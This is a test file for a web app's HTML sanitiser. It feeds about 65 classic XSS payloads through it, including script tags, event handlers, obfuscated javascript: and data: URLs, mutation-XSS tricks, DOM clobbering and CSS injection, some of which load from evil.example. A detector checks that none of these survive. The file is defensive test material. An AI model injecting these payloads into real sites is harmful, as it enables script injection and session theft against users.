import { describe, expect, it } from 'vitest';
import { safeStyle, sanitizeHtml } from './sanitize-html';

/**
 * What may not survive sanitising, looked for in the DOM the output parses to (as the browser will read it):
 * a tag that runs, loads, submits or frames; an event handler; a URL that is not http(s), mailto:, tel: or a
 * path; CSS that loads or positions; a name that clobbers.
 */
const DANGEROUS_TAGS = new Set([
  'script',
  'style',
  'iframe',
  'frame',
  'frameset',
  'object',
  'embed',
  'applet',
  'form',
  'input',
  'button',
  'textarea',
  'select',
  'option',
  'base',
  'link',
  'meta',
  'svg',
  'math',
  'template',
  'noscript',
  'xmp',
  'noembed',
  'noframes',
  'plaintext',
  'video',
  'audio',
  'source',
  'track',
  'picture',
  'dialog',
  'portal',
  'image',
  'animate',
  'set',
  'use',
  'foreignobject',
  'mglyph',
  'malignmark',
  'title',
  'marquee',
  'isindex',
]);
const SAFE_URL = /^(?:https?:|mailto:|tel:|\/(?!\/)|#|\?|[\w.-]+(?:[/?#]|$)|\/\/)/i;

/** A URL as the browser reads it: without the spaces and control characters it strips. */
const visible = (url: string) => [...url].filter((c) => c.charCodeAt(0) > 0x20).join('');

const dangers = (html: string): string[] => {
  const doc = document.implementation.createHTMLDocument('');
  doc.body.innerHTML = html;
  const found: string[] = [];
  for (const el of doc.body.querySelectorAll('*')) {
    const tag = el.localName;
    if (DANGEROUS_TAGS.has(tag) || el.namespaceURI !== 'http://www.w3.org/1999/xhtml') found.push(`<${tag}>`);
    for (const { name, value } of el.attributes) {
      if (/^on/i.test(name)) found.push(`${tag}[${name}]`);
      if (
        [
          'srcset',
          'xlink:href',
          'action',
          'formaction',
          'background',
          'poster',
          'id',
          'name',
          'class',
          'srcdoc',
          'ping',
          'data',
        ].includes(name)
      )
        found.push(`${tag}[${name}]`);
      if ((name === 'href' || name === 'src') && !SAFE_URL.test(visible(value)))
        found.push(`${tag}[${name}=${value}]`);
      if (name === 'style' && /url\(|expression|image|\\|position|behavior|binding|javascript/i.test(value))
        found.push(`${tag}[style=${value}]`);
      if (name.startsWith('data-') || name.startsWith('aria-') || name === 'tabindex')
        found.push(`${tag}[${name}]`);
    }
    if (tag === 'img' && el.getAttribute('src')?.startsWith('data:')) found.push('img[src=data:]');
  }
  return found;
};

/** The classic vectors (OWASP's filter-evasion cheat sheet, PortSwigger's, mutation XSS). */
const VECTORS: [string, string][] = [
  ['a script element', '<script>alert(1)</script>'],
  ['a script with a src', '<script src="https://evil.example/x.js"></script>'],
  ['a split script tag', '<scr<script>ipt>alert(1)</script>'],
  ['an image error handler', '<img src=x onerror=alert(1)>'],
  ['an image with no quotes and a slash', '<img/src="x"/onerror=alert(1)>'],
  ['an upper-case handler', '<IMG SRC=x ONERROR="alert(1)">'],
  ['a body onload', '<body onload=alert(1)>'],
  ['an svg onload', '<svg onload=alert(1)>'],
  ['an svg script', '<svg><script>alert(1)</script></svg>'],
  ['an svg use with a data URL', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>'],
  [
    'an svg animate setting href',
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
  ],
  ['math namespace confusion', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['noscript mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['a template', '<template><img src=x onerror=alert(1)></template>'],
  ['svg inside a style in a table', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ['a javascript: link', '<a href="javascript:alert(1)">x</a>'],
  [
    'a javascript: link with entities',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  ],
  [
    'a javascript: link with hex entities without semicolons',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  ],
  ['a javascript: link with a tab', '<a href="jav\tascript:alert(1)">x</a>'],
  ['a javascript: link with a newline entity', '<a href="jav&#x0A;ascript:alert(1)">x</a>'],
  [
    'a javascript: link with leading spaces and control characters',
    '<a href=" &#14;  javascript:alert(1)">x</a>',
  ],
  ['a mixed-case JaVaScRiPt: link', '<a href="JaVaScRiPt:alert(1)">x</a>'],
  ['a vbscript: link', '<a href="vbscript:msgbox(1)">x</a>'],
  ['a data: link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['a data: image', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['a javascript: image', '<img src="javascript:alert(1)">'],
  ['an srcset', '<img src="/ok.png" srcset="javascript:alert(1) 1x, data:image/png;base64,AA 2x">'],
  ['an xlink:href', '<a xlink:href="javascript:alert(1)">x</a>'],
  ['an iframe with a javascript: src', '<iframe src="javascript:alert(1)"></iframe>'],
  ['an iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['an object', '<object data="javascript:alert(1)"></object>'],
  ['an embed', '<embed src="data:text/html,<script>alert(1)</script>">'],
  ['a meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['a base href', '<base href="https://evil.example/"><a href="/x">x</a>'],
  ['a link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['a form with an action', '<form action="javascript:alert(1)"><input type="submit"></form>'],
  ['a button formaction', '<form><button formaction="javascript:alert(1)">x</button></form>'],
  ['an input autofocus onfocus', '<input autofocus onfocus=alert(1)>'],
  ['a style element with an import', '<style>@import "https://evil.example/x.css";</style>'],
  ['a style element with an expression', '<style>body{width:expression(alert(1))}</style>'],
  ['a style attribute with url(javascript:)', '<div style="background:url(javascript:alert(1))">x</div>'],
  [
    'a style attribute with a data: image',
    '<div style="background-image:url(data:image/png;base64,AA)">x</div>',
  ],
  ['a style attribute with an expression', '<div style="width: expression(alert(1))">x</div>'],
  ['a style attribute with escapes', '<div style="background:u\\72l(https://evil.example/x)">x</div>'],
  [
    'a style attribute that dresses content over the app',
    '<div style="position:fixed;inset:0;z-index:9999">x</div>',
  ],
  ['a -moz-binding', '<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>'],
  ['a table background', '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'],
  ['details ontoggle', '<details open ontoggle=alert(1)><summary>x</summary></details>'],
  ['a marquee onstart', '<marquee onstart=alert(1)>x</marquee>'],
  ['a video onerror', '<video><source onerror=alert(1)></video>'],
  ['an audio src', '<audio src=x onerror=alert(1)></audio>'],
  ['a DOM-clobbering form', '<form name="getElementById"></form><img name="cookie" id="location">'],
  ['a DOM-clobbering anchor', '<a id="defaultView" name="x" href="https://example.com">x</a>'],
  ['a class that dresses content as the app', '<div class="backdrop">x</div>'],
  ['a data attribute', '<div data-action="steal">x</div>'],
  ['a tabindex that breaks the focus order', '<p tabindex="1">x</p>'],
  ['a popover', '<div popover>x</div>'],
  ['a dialog', '<dialog open>x</dialog>'],
  ['an unclosed attribute breakout', '<a title="</a><img src=x onerror=alert(1)>">x</a>'],
  ['a comment breakout', '<!--<img src="--><img src=x onerror=alert(1)//">'],
  ['a CDATA in HTML', '<![CDATA[><img src=x onerror=alert(1)>]]>'],
  ['a nested mangled tag', '<<img src=x onerror=alert(1)//<'],
  ['an image map area', '<map><area href="javascript:alert(1)"></map>'],
  ['a ping', '<a href="https://example.com" ping="https://evil.example/">x</a>'],
];

describe('sanitizeHtml: nothing of the classic XSS vectors survives', () => {
  it.each(VECTORS)('%s', (_, html) => {
    expect(dangers(sanitizeHtml(html))).toEqual([]);
  });

  it('the corpus checker itself finds what it looks for', () => {
    expect(dangers('<img src=x onerror=alert(1)><a href="javascript:x">x</a><svg></svg>')).toEqual([
      'img[onerror]',
      'a[href=javascript:x]',
      '<svg>',
    ]);
  });
});

describe('sanitizeHtml: rich text stays', () => {
  it('keeps headings, lists, emphasis, tables, quotes and images from this site', () => {
    const html =
      '<h2>Weekend bonus</h2><p>Get <strong>100%</strong> <em>up to</em> 500.</p><ul><li>One</li><li>Two</li></ul>' +
      '<ol start="3"><li>Three</li></ol><blockquote>Note</blockquote>' +
      '<table><thead><tr><th>Day</th></tr></thead><tbody><tr><td colspan="2">Sat</td></tr></tbody></table>' +
      '<img src="/wps/images/home/bonus.svg" alt="Bonus" width="300" height="120">';
    const clean = sanitizeHtml(html);
    expect(clean).toContain('<h2>Weekend bonus</h2>');
    expect(clean).toContain('<strong>100%</strong>');
    expect(clean).toContain('<ul><li>One</li><li>Two</li></ul>');
    expect(clean).toContain('<ol start="3">');
    expect(clean).toContain('<td colspan="2">Sat</td>');
    expect(clean).toContain(
      '<img src="/wps/images/home/bonus.svg" alt="Bonus" width="300" height="120" loading="lazy" decoding="async">',
    );
  });

  it('opens every link in a new window cut off from this one', () => {
    const clean = sanitizeHtml(
      '<a href="https://example.com/promo" target="_self" rel="opener">Promo</a> <a href="/m/activity?id=1">Here</a> <a href="mailto:help@example.com">Mail</a>',
    );
    const doc = document.implementation.createHTMLDocument('');
    doc.body.innerHTML = clean;
    const links = [...doc.querySelectorAll('a')].map((a) => [a.getAttribute('href'), a.target, a.rel]);
    expect(links).toEqual([
      ['https://example.com/promo', '_blank', 'noopener noreferrer'],
      ['/m/activity?id=1', '_blank', 'noopener noreferrer'],
      ['mailto:help@example.com', '_blank', 'noopener noreferrer'],
    ]);
  });

  it('gives an image without a text alternative an empty one (decoration), and keeps one it has', () => {
    const doc = document.implementation.createHTMLDocument('');
    doc.body.innerHTML = sanitizeHtml('<img src="/a.png"><img src="/b.png" alt="Bonus">');
    expect([...doc.querySelectorAll('img')].map((i) => i.getAttribute('alt'))).toEqual(['', 'Bonus']);
  });

  it('keeps images from this site and the image CDNs only (what the CSP lets load)', () => {
    const html =
      '<img src="https://cdn.example/a.png"><img src="https://evil.example/b.png"><img src="//evil.example/c.png">' +
      `<img src="${window.location.origin}/d.png"><img src="e.png"><img src="">`;
    const srcs = (clean: string) => {
      const doc = document.implementation.createHTMLDocument('');
      doc.body.innerHTML = clean;
      return [...doc.querySelectorAll('img')].map((i) => i.getAttribute('src'));
    };
    expect(srcs(sanitizeHtml(html, { imageHosts: ['https://cdn.example/images/'] }))).toEqual([
      'https://cdn.example/a.png',
      null,
      null,
      `${window.location.origin}/d.png`,
      'e.png',
      null,
    ]);
    // A host without a scheme is an https one, as the CSP reads it.
    expect(srcs(sanitizeHtml(html, { imageHosts: ['cdn.example'] }))[0]).toBe('https://cdn.example/a.png');
    // Without CDNs, the first is dropped too.
    expect(srcs(sanitizeHtml(html))[0]).toBeNull();
  });

  it('keeps the text colours and alignment of inline style, and drops the rest', () => {
    expect(safeStyle('color: red; text-align: center; font-weight: bold')).toBe(
      'color: red; text-align: center; font-weight: bold',
    );
    expect(safeStyle('position: fixed; top: 0; color: #123456; z-index: 10')).toBe('color: rgb(18, 52, 86)');
    expect(safeStyle('background: url(https://evil.example/x.png); background-color: yellow')).toBe(
      'background-color: yellow',
    );
    expect(safeStyle('font-family: var(--x); color: blue')).toBe('color: blue');
    expect(safeStyle('display: none')).toBe('');
    const clean = sanitizeHtml(
      '<p style="color: red; position: absolute">x</p><p style="position:fixed">y</p>',
    );
    expect(clean).toBe('<p style="color: red">x</p><p>y</p>');
  });
});
